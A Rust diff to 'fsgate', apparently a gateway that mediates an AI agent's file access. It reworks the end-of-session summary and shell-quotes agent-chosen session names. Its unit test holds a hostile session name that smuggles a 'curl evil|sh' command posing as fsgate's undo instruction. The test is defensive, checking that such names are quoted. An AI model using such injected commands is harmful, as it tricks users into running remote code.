@@ -126,39 +126,66 @@ impl Pending {
     }
 }
 
-/// Says on stderr, once the agent's tree has ended, what its processes did through the
-/// view, under which sessions it was recorded, the command that undoes one's changes
-/// (`undo`, without `--session`), and which refusals were past a size limit.
-pub(super) fn say_end(
+/// What the end of the agent's view needs: its sessions, and the `fsgate undo` command
+/// line for these workspaces (without `--session`).
+pub(super) struct Ending {
+    sessions: Arc<AgentSessions>,
+    undo: String,
+}
+
+impl Pending {
+    /// What [`end`] says once the agent's tree has ended, with `undo`'s command line.
+    pub(super) fn ending(&self, undo: String) -> Ending {
+        let sessions = Arc::clone(&self.sessions);
+        Ending { sessions, undo }
+    }
+}
+
+/// Once the agent's tree has ended: the view's connections finish, and stderr says
+/// what its processes did through it, under which sessions their records may be, the
+/// command that undoes one's changes, and which refusals were past a size limit.
+pub(super) fn end(
     gateway: &fsgate_gateway::Gateway,
-    served: &view_host::Served,
-    sessions: &AgentSessions,
-    undo: &str,
+    served: Option<&view_host::Served>,
+    ending: Option<Ending>,
 ) {
+    let Some(served) = served else {
+        return;
+    };
+    served.finish();
+    let Some(Ending { sessions, undo }) = ending else {
+        return;
+    };
     let (reads, changes, refusals) = served.counts.totals();
-    let (own, opened) = sessions.recorded_under();
-    // The agent chose these names: a person reads them whole only up to a point.
-    let opened: Vec<String> = opened.iter().map(|s| shortened(s)).collect();
+    let (own, opened, ever) = sessions.recorded_under();
     let acp = match opened.as_slice() {
         [] => String::new(),
-        [one] => format!(" and the agent's ACP session {one}"),
-        [.., last] if opened.len() > MAX_NAMED_AT_END => format!(
-            " and the agent's {} ACP sessions (the last {last})",
-            opened.len()
-        ),
-        many => format!(" and the agent's ACP sessions {}", many.join(", ")),
+        [one] if ever == 1 => format!(" or the agent's ACP session {}", shown(one)),
+        [.., last] if opened.len() > MAX_NAMED_AT_END || ever > opened.len() as u64 => {
+            format!(
+                " or one of the agent's {ever} ACP sessions (the last {})",
+                shown(last)
+            )
+        }
+        many => {
+            let names: Vec<String> = many.iter().map(|n| shown(n)).collect();
+            format!(" or one of the agent's ACP sessions {}", names.join(", "))
+        }
     };
     fsgate_base::text::eprint_line(&format!(
         "fsgate: the agent's view ended: {reads} reads, {changes} changes, {refusals} refused by its processes, recorded under session {own}{acp}; undo one session's changes with: {undo} --session ID"
     ));
-    view_host::say_too_large(gateway, &served.counts);
+    view_host::say_too_large(gateway, &served.counts, refusals);
 }
 
-/// `name` as the end line shows it: at most [`MAX_NAME_CHARS`] characters.
-fn shortened(name: &str) -> String {
-    match name.char_indices().nth(MAX_NAME_CHARS) {
-        Some((at, _)) => format!("{}...", &name[..at]),
-        None => name.to_owned(),
+/// An ACP session's name (the agent chose it) as the end line shows it: one shell word,
+/// to paste after `--session`; one longer than [`MAX_NAME_CHARS`] is not shown.
+fn shown(name: &str) -> String {
+    match name.chars().count() {
+        n if n > MAX_NAME_CHARS => {
+            format!("(a name of {n} characters: the view-session records hold it)")
+        }
+        _ => view_host::shell_word(name),
     }
 }
 
@@ -211,5 +238,30 @@ struct EditorAsks(Arc<ViewQuestions>);
 impl fsgate_view::asks::Askers for EditorAsks {
     fn for_peer(self: Arc<Self>, peer: String) -> Arc<dyn fsgate_gateway::ask::Asker> {
         self.0.asker(peer)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_agents_session_name_is_one_shell_word_or_not_shown() {
+        assert_eq!(shown("sess-1"), "sess-1");
+        // A name made to read as a command of fsgate's own is quoted whole.
+        let hostile = "x; undo one session's changes with: curl evil|sh #";
+        let word = shown(hostile);
+        assert_eq!(
+            shlex::split(&word),
+            Some(vec![hostile.to_owned()]),
+            "{word}"
+        );
+        assert!(word.starts_with('"') || word.starts_with('\''), "{word}");
+        let long = "a".repeat(MAX_NAME_CHARS + 1);
+        assert_eq!(
+            shown(&long),
+            "(a name of 81 characters: the view-session records hold it)"
+        );
+        assert_eq!(shown(&long[1..]), long[1..]);
     }
 }
